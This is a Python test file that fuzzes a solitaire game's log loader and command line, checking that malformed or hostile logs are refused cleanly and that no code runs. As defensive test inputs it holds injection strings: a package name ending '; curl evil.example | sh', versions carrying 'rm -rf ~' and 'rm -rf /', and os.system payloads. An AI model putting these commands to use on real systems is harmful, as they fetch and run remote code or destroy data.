"""Logs come from other people: whatever a file holds, reading and replaying it
either succeeds (the log is still a valid record of a game) or raises
``LogError``, never another exception; the command line answers exit 2 with one
line on stderr.  Loading never runs code.
"""

from __future__ import annotations

import copy
import json
import random
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from logcheck import assert_header_names

from solitaire.core import log
from solitaire.core.game import Game, parse_action
from solitaire.core.playout import play_randomly
from solitaire.core.untrusted import cut
from solitaire.frontends.cli.main import run
from solitaire.plugins.builtins import new_catalog

CATALOG = new_catalog(entry_points=False, blocked=["solver-hints", "sampling-hints"])  # quick hints
HOSTILE = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _played(code: str, seed: int, actions: int) -> Game:
    """A real game: legal moves (often the hint's), undo and redo."""
    return play_randomly(CATALOG.game_from_code(code), random.Random(seed), actions, undo=0.1, hint=0.45)


GAMES = [
    _played("KL1-D1N-AAAAAAG", 1, 40),
    _played("TF1-D3VP2F-AAAAMBZ", 2, 40),
    _played("KL1-D3NP3-AAAAAAB", 3, 60),
]
TEXTS = [log.dumps(log.log_of(game, CATALOG)) for game in GAMES]


def real_log(index: int = 0) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(TEXTS[index])
    return data


# -- the outcome every input must have -----------------------------------------------------------


def replay_or_refuse(text: str | bytes) -> Game | None:
    """Read and replay ``text``: a replayed game whose log is still valid, or
    None after a ``LogError`` (any other exception fails the test)."""
    try:
        parsed = log.loads(text)
        game = log.replay(parsed, CATALOG)
    except log.LogError as error:
        assert isinstance(error.where, str)
        assert isinstance(error.problem, str) and error.problem
        assert_refusal_is_deserved(text, error)
        return None
    # Still valid: the log is exactly what the rules record for its actions.
    assert len(game.journal) == len(parsed.entries)
    for entry, (action, events) in zip(parsed.entries, game.journal, strict=True):
        assert entry.events == events
        assert parse_action(action) == parse_action(entry.action) or action in ("undo", "redo")
    assert_header_names(parsed.header, game)
    return game


#: The real logs as canonical JSON: a text that reads as one of them must replay.
CANONICAL = {json.dumps(json.loads(text), sort_keys=True) for text in TEXTS}
#: The fields every log has (a place may name one that is missing).
FIELDS = {"format", "version", "header", "actions"}


def assert_refusal_is_deserved(text: str | bytes, error: log.LogError) -> None:
    """A refused text is not a real log, and the error names a place in it: the
    whole file for a text that is not JSON, else a path whose every step but the
    last (the field that is wrong or missing) is there in the text's JSON."""
    assert str(error).isprintable(), str(error)  # one line on a terminal
    try:
        data = json.loads(text)
    except (ValueError, RecursionError):  # not UTF-8, not JSON, too deep or too long
        assert error.where == "" or re.fullmatch(r"line \d+ column \d+", error.where), error
        return
    assert json.dumps(data, sort_keys=True) not in CANONICAL, error  # (True is not 1 here)
    if not isinstance(data, dict):
        assert error.where == "the file", error
        return
    if error.where in {log.LogError(cut(key), "").where for key in data}:  # an unknown field
        return
    steps = re.findall(r"\.?([^.\[\]]+)|\[(\d+)\]", error.where)
    assert steps and steps[0][0] in FIELDS, error
    node: Any = data
    for key, index in steps[:-1]:
        if key:
            assert isinstance(node, dict) and key in node, error
            node = node[key]
        else:
            assert isinstance(node, list) and int(index) < len(node), error
            node = node[int(index)]


def test_the_real_logs_replay() -> None:
    for game, text in zip(GAMES, TEXTS, strict=True):
        replayed = replay_or_refuse(text)
        assert replayed is not None and replayed.state == game.state


# -- structured mutations ------------------------------------------------------------------------

SPECIAL = st.sampled_from(
    [10**400, -(10**400), -1, 0, 1, 2, 3, 51, 52, 2**35, 2**63, 2**64, 1.5, -0.0, 1e308, float("inf")]
)
WORDS = st.sampled_from(
    ["AH", "KS", "10H", "ah", "t1", "f2", "f", "w", "s", "undo", "redo", "moved", "won", "score", "tag"]
    + ["klondike", "reflechi", "vegas", "passes:0", "passes:999", "__import__('os').system('true')"]
)
LEAVES = st.one_of(st.none(), st.booleans(), st.integers(), SPECIAL, st.floats(), st.text(max_size=12), WORDS)
JSON_VALUES = st.recursive(
    LEAVES,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=8,
)
KEYS = st.one_of(st.text(max_size=10), st.sampled_from(["tag", "cards", "extra", "__class__", "version"]))


def _paths(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [path]
    if isinstance(value, dict):
        for key, item in value.items():
            found.extend(_paths(item, (*path, key)))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            found.extend(_paths(item, (*path, index)))
    return found


def _get(data: Any, path: tuple[Any, ...]) -> Any:
    for step in path:
        data = data[step]
    return data


@st.composite
def mutated_logs(draw: st.DrawFn) -> Any:
    """A real log's JSON with one to three random mutations."""
    data: Any = real_log(draw(st.integers(0, len(TEXTS) - 1)))
    for _ in range(draw(st.integers(1, 3))):
        paths = _paths(data)
        path = draw(st.sampled_from(paths))
        node = _get(data, path)
        kind = draw(st.sampled_from(["replace", "drop", "add_key", "swap", "duplicate", "wrap"]))
        if kind == "replace" or (not path and kind in ("drop", "wrap")):
            value = draw(JSON_VALUES)
            if path:
                _get(data, path[:-1])[path[-1]] = value
            else:
                data = value
        elif kind == "drop":
            del _get(data, path[:-1])[path[-1]]
        elif kind == "wrap":  # the value inside a list or an object
            wrapped = [node] if draw(st.booleans()) else {"value": node}
            _get(data, path[:-1])[path[-1]] = wrapped
        elif kind == "add_key" and isinstance(node, dict):
            node[draw(KEYS)] = draw(JSON_VALUES)
        elif kind == "swap" and isinstance(node, list) and len(node) >= 2:
            i = draw(st.integers(0, len(node) - 1))
            j = draw(st.integers(0, len(node) - 1))
            node[i], node[j] = node[j], node[i]
        elif kind == "duplicate" and isinstance(node, list) and node:
            i = draw(st.integers(0, len(node) - 1))
            node.insert(draw(st.integers(0, len(node))), copy.deepcopy(node[i]))
    return data


@HOSTILE
@given(data=mutated_logs())
def test_mutated_logs_replay_or_raise_log_error(data: Any) -> None:
    replay_or_refuse(json.dumps(data))


@st.composite
def two_actions_swapped(draw: st.DrawFn) -> Any:
    data = real_log(draw(st.integers(0, len(TEXTS) - 1)))
    actions = data["actions"]
    i = draw(st.integers(0, len(actions) - 2))
    j = draw(st.integers(i + 1, len(actions) - 1))
    actions[i], actions[j] = actions[j], actions[i]
    return data


@settings(max_examples=60, deadline=None)
@given(data=two_actions_swapped())
def test_swapped_actions_replay_only_when_they_give_the_same_game(data: Any) -> None:
    replay_or_refuse(json.dumps(data))


@HOSTILE
@given(
    index=st.integers(0, len(TEXTS) - 1), field=st.sampled_from(["deal", "draw", "shuffle"]), value=SPECIAL
)
def test_huge_and_negative_numbers_in_the_header_are_refused(index: int, field: str, value: Any) -> None:
    data = real_log(index)
    assume(value != data["header"][field])
    data["header"][field] = value
    with pytest.raises(log.LogError) as caught:
        log.replay(log.loads(json.dumps(data)), CATALOG)
    assert caught.value.where.startswith("header")


# -- text and byte mutations ---------------------------------------------------------------------


@HOSTILE
@given(index=st.integers(0, len(TEXTS) - 1), cut=st.integers(0, 10**6))
def test_truncated_files_are_refused(index: int, cut: int) -> None:
    raw = TEXTS[index].encode("utf-8")
    cut %= len(raw)
    assume(raw[cut:].strip())  # cutting only the final newline leaves the whole log
    assert replay_or_refuse(raw[:cut]) is None


@HOSTILE
@given(
    index=st.integers(0, len(TEXTS) - 1),
    start=st.integers(0, 10**6),
    length=st.integers(0, 8),
    junk=st.binary(max_size=8),
)
def test_random_bytes_replay_or_raise_log_error(index: int, start: int, length: int, junk: bytes) -> None:
    raw = TEXTS[index].encode("utf-8")
    start %= len(raw)
    replay_or_refuse(raw[:start] + junk + raw[start + length :])


@settings(max_examples=50, deadline=None)
@given(raw=st.binary(max_size=200) | st.text(max_size=200))
def test_arbitrary_input_raises_log_error(raw: bytes | str) -> None:
    assert replay_or_refuse(raw) is None


@pytest.mark.parametrize("opener", ["[", '{"a":', '{"format": "solitaire-log", "version": 1, "header": ['])
def test_deep_nesting_is_refused(opener: str) -> None:
    text = opener * 100_000
    with pytest.raises(log.LogError):
        log.loads(text)
    with pytest.raises(log.LogError):
        log.loads(text.encode())


@pytest.mark.parametrize("depth", [10, 200, 900])
def test_nesting_inside_a_field_is_refused(depth: int) -> None:
    data = real_log()
    text = json.dumps(data).replace('"dealt": [', '"dealt": [' + "[" * depth + "]" * depth + ", ", 1)
    assert replay_or_refuse(text) is None


def test_a_20_mb_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "big.json"
    path.write_bytes(TEXTS[0].encode().replace(b'"actions": [', b'"actions": [' + b" " * 20_000_000, 1))
    with pytest.raises(log.LogError) as caught:
        log.load(path)
    assert "16 MiB" in caught.value.problem
    with pytest.raises(log.LogError):
        log.loads(path.read_bytes())
    with pytest.raises(log.LogError):
        log.loads(path.read_text(encoding="utf-8"))


def test_a_file_at_the_size_limit_is_read_and_one_byte_more_is_not(tmp_path: Path) -> None:
    raw = TEXTS[0].encode()
    path = tmp_path / "limit.json"
    path.write_bytes(raw + b" " * (log.MAX_LOG_BYTES - len(raw)))
    assert log.load(path) == log.loads(TEXTS[0])
    path.write_bytes(raw + b" " * (log.MAX_LOG_BYTES - len(raw) + 1))
    with pytest.raises(log.LogError):
        log.load(path)


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\xff\xfe\x00\x00",
        "{}".encode("utf-16"),
        b"\x80\x04\x95\x00\x00\x00",  # the start of a pickle
        b"!!python/object/apply:os.system ['true']",  # YAML's way to run code
        b"null",
        b"[]",
        b'"solitaire-log"',
        b"NaN",
        b"1" * 5000,  # an integer longer than Python reads
    ],
)
def test_garbage_is_refused(raw: bytes) -> None:
    with pytest.raises(log.LogError):
        log.loads(raw)


# -- unknown versions and plugins ----------------------------------------------------------------


def test_an_unknown_format_version_says_so() -> None:
    data = real_log()
    data["version"] = 3
    with pytest.raises(log.LogError) as caught:
        log.loads(json.dumps(data))
    assert caught.value.where == "version"
    assert caught.value.problem == "format version 3 is not known here (this version reads 0 to 2)"


def test_another_format_is_refused() -> None:
    data = real_log()
    data["format"] = "chess-pgn"
    with pytest.raises(log.LogError) as caught:
        log.loads(json.dumps(data))
    assert caught.value.where == "format" and "not a solitaire game log" in caught.value.problem


@pytest.mark.parametrize(
    ("kind", "ref", "expected"),
    [
        (
            "variant",
            {"id": "calculation", "package": "solitaire-calculation", "version": "1.0"},
            "variant 'calculation' is not installed: pip install 'solitaire-calculation==1.0'",
        ),
        (
            "scoring",
            {"id": "cumulative", "package": "solitaire-vegas-plus", "version": "2.1"},
            "scoring 'cumulative' is not installed: pip install 'solitaire-vegas-plus==2.1'",
        ),
        (
            "redeal",
            {"id": "golden:4", "package": "solitaire-golden", "version": None},
            "redeal 'golden:4' is not installed: pip install 'solitaire-golden'",
        ),
        (
            "variant",
            {"id": "calculation", "package": None, "version": None},
            "variant 'calculation' is not installed",
        ),
    ],
)
def test_a_plugin_not_installed_names_the_package_to_install(
    kind: str, ref: dict[str, Any], expected: str
) -> None:
    data = real_log()
    data["header"][kind] = ref
    with pytest.raises(log.LogError) as caught:
        log.replay(log.loads(json.dumps(data)), CATALOG)
    assert caught.value.where == f"header.{kind}"
    assert caught.value.problem == expected


def test_a_version_0_log_of_a_plugin_not_installed_says_which() -> None:
    data = real_log()
    data["version"] = 0
    for kind in ("variant", "scoring", "redeal"):
        data["header"][kind] = data["header"][kind]["id"]
    data["header"]["variant"] = "calculation"
    with pytest.raises(log.LogError) as caught:
        log.replay(log.loads(json.dumps(data)), CATALOG)
    assert caught.value.where == "header.variant"
    assert caught.value.problem == "variant 'calculation' is not installed"


def test_an_unknown_event_tag_is_a_clear_error() -> None:
    """An unknown tag must say so (not "missing"), naming the tag."""
    data = real_log()
    data["actions"][0]["events"][0]["tag"] = "teleported"
    with pytest.raises(log.LogError) as caught:
        log.loads(json.dumps(data))
    assert caught.value.where.startswith("actions[0].events[0]")
    assert "teleported" in caught.value.problem


def test_a_missing_event_tag_is_named() -> None:
    data = real_log()
    del data["actions"][0]["events"][0]["tag"]
    with pytest.raises(log.LogError) as caught:
        log.loads(json.dumps(data))
    assert caught.value.where.startswith("actions[0].events[0]")


@pytest.mark.parametrize(
    ("where", "path"),
    [
        ("extra", ()),
        ("header", ("header",)),
        ("header.variant", ("header", "variant")),
        ("actions[0]", ("actions", 0)),
        ("actions[0].events[0]", ("actions", 0, "events", 0)),
    ],
)
def test_unknown_keys_are_refused_where_they_are(where: str, path: tuple[Any, ...]) -> None:
    data = real_log()
    _get(data, path)["extra"] = 1
    with pytest.raises(log.LogError) as caught:
        log.loads(json.dumps(data))
    assert caught.value.where == where
    assert "unknown field" in caught.value.problem


@pytest.mark.parametrize(
    ("path", "where"),
    [
        (("header", "dealt"), "header.dealt"),
        (("actions", 0, "events"), "actions[0].events"),
        (("actions", 0, "events", 0, "cards"), "actions[0].events[0].cards"),
    ],
)
def test_an_object_where_a_list_belongs_is_refused(path: tuple[Any, ...], where: str) -> None:
    """A JSON object is not a list, even when its keys are the right cards or events."""
    data = real_log()
    items = _get(data, path)
    assert isinstance(items, list)
    keyed = {item if isinstance(item, str) else json.dumps(item): 0 for item in items}
    _get(data, path[:-1])[path[-1]] = keyed
    with pytest.raises(log.LogError) as caught:
        log.replay(log.loads(json.dumps(data)), CATALOG)
    assert caught.value.where.startswith(where)


# -- loading never runs code ---------------------------------------------------------------------


def test_strings_that_look_like_code_are_only_text(tmp_path: Path) -> None:
    sentinel = tmp_path / "ran"
    payload = f"__import__('os').system('touch {sentinel}')"
    places = [
        ("actions", 0, "action"),
        ("header", "code"),
        ("header", "variant", "id"),
        ("header", "variant", "package"),
        ("header", "scoring", "version"),
        ("header", "redeal", "id"),
        ("header", "dealt", 0),
        ("format",),
    ]
    for path in places:
        data = real_log()
        _get(data, path[:-1])[path[-1]] = payload
        replay_or_refuse(json.dumps(data))
    data = real_log()
    data[payload] = payload
    data["header"]["variant"][payload] = 1
    data["actions"][0]["events"][0]["tag"] = payload
    replay_or_refuse(json.dumps(data))
    for tag in ("__class__", "__init__", "__reduce__", "Event", "CardsMoved"):
        data = real_log()
        data["actions"][0]["events"][0] = {"tag": tag, "cards": ["AS"], "src": "s", "dst": "w"}
        replay_or_refuse(json.dumps(data))
    assert not sentinel.exists()


def test_a_changed_package_or_version_alone_still_replays() -> None:
    """Package and version only tell the reader what to install; they do not change the game."""
    data = real_log()
    for package, version in [("solitaire-other", None), ("Some.Other_Dist", "2.0rc1.post3.dev4+local.7")]:
        data["header"]["variant"] = {"id": "klondike", "package": package, "version": version}
        game = replay_or_refuse(json.dumps(data))
        assert game is not None and game.state == GAMES[0].state


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("package", "solitaire-calculation-fix; curl evil.example | sh"),
        ("package", "__import__('os')"),
        ("package", "solitaire-calculation'"),
        ("package", "-solitaire"),
        ("package", ""),
        ("package", "a" * 100 + " b"),
        ("version", "1.0; rm -rf ~"),
        ("version", "1.0' && sh '"),
        ("version", "latest"),
        ("version", " 1.0"),
        ("version", ""),
    ],
)
def test_a_package_or_version_that_is_not_a_name_is_refused_naming_the_field(field: str, value: str) -> None:
    """The package and version are what the player is told to install: only a real name and
    version number (PEP 508, PEP 440) is accepted, anything else refuses the log."""
    for kind in ("variant", "scoring", "redeal"):
        data = real_log()
        data["header"][kind][field] = value
        with pytest.raises(log.LogError) as caught:
            log.loads(json.dumps(data))
        assert caught.value.where == f"header.{kind}.{field}"
        assert value[:30] in caught.value.problem


def test_the_advice_to_install_is_a_command_to_copy(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = real_log()
    data["header"]["variant"] = {
        "id": "calculation",
        "package": "solitaire-calculation-fix; curl evil.example | sh",
    }
    path = tmp_path / "evil.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    assert run(["replay", str(path)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(
        f"{path}: header.variant.package: 'solitaire-calculation-fix; curl evil.example | sh'"
    )
    assert "pip" not in err and err.count("\n") == 1
    data["header"]["variant"] = {
        "id": "calculation",
        "package": "Solitaire_Scorpion.Fix",
        "version": "1.0.post1",
    }
    path.write_text(json.dumps(data), encoding="utf-8")
    assert run(["replay", str(path)]) == 2
    assert capsys.readouterr().err.endswith(": pip install 'Solitaire_Scorpion.Fix==1.0.post1'\n")


# -- through the command line --------------------------------------------------------------------


def _hostile_files() -> dict[str, bytes]:
    def edited(change: Any) -> bytes:
        data = real_log()
        change(data)
        return json.dumps(data).encode()

    return {
        "truncated": TEXTS[0].encode()[:700],
        "not-utf8": b"\xff" + TEXTS[0].encode(),
        "deep": b"[" * 100_000,
        "huge-number": edited(lambda d: d["header"].__setitem__("deal", 10**400)),
        "version-3": edited(lambda d: d.__setitem__("version", 3)),
        "calculation": edited(
            lambda d: d["header"].__setitem__(
                "variant", {"id": "calculation", "package": "solitaire-calculation", "version": "1.0"}
            )
        ),
        "tag-list": edited(lambda d: d["actions"][0]["events"][0].__setitem__("tag", [])),
        "variant-list": edited(lambda d: d["header"].__setitem__("variant", ["klondike"])),
        "events-object": edited(lambda d: d["actions"][1].__setitem__("events", {"a": 1})),
        "code-in-action": edited(
            lambda d: d["actions"][0].__setitem__("action", "__import__('os').system('false')")
        ),
        "newline-in-action": edited(lambda d: d["actions"][0].__setitem__("action", "t1\n>f")),
        "newline-in-unknown-key": edited(lambda d: d["header"].__setitem__("a\nb", 1)),
        "newline-in-top-level-key": edited(lambda d: d.__setitem__("a\nb", 1)),
        "newline-in-package": edited(
            lambda d: d["header"].__setitem__(
                "variant",
                {"id": "calculation", "package": "solitaire-calculation\nrm -rf /", "version": "1.0"},
            )
        ),
        "twenty-megabytes": b" " * 20_000_000 + TEXTS[0].encode(),
    }


HOSTILE_FILES = _hostile_files()


@pytest.mark.parametrize("name", sorted(HOSTILE_FILES))
def test_the_command_line_answers_one_line_and_exit_2(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / f"{name}.json"
    path.write_bytes(HOSTILE_FILES[name])
    status = run(["replay", str(path)])
    out, err = capsys.readouterr()
    assert status == 2
    assert out == ""
    assert "Traceback" not in err
    assert err.endswith("\n") and err.count("\n") == 1, err
    assert err.startswith(str(path))


def test_the_command_line_names_the_package_to_install(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "scorpion.json"
    path.write_bytes(HOSTILE_FILES["calculation"])
    assert run(["replay", str(path)]) == 2
    assert capsys.readouterr().err == (
        f"{path}: header.variant: variant 'calculation' is not installed:"
        " pip install 'solitaire-calculation==1.0'\n"
    )


def test_the_command_line_says_the_version_is_not_known(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "v2.json"
    path.write_bytes(HOSTILE_FILES["version-3"])
    assert run(["replay", str(path)]) == 2
    assert capsys.readouterr().err == (
        f"{path}: version: format version 3 is not known here (this version reads 0 to 2)\n"
    )
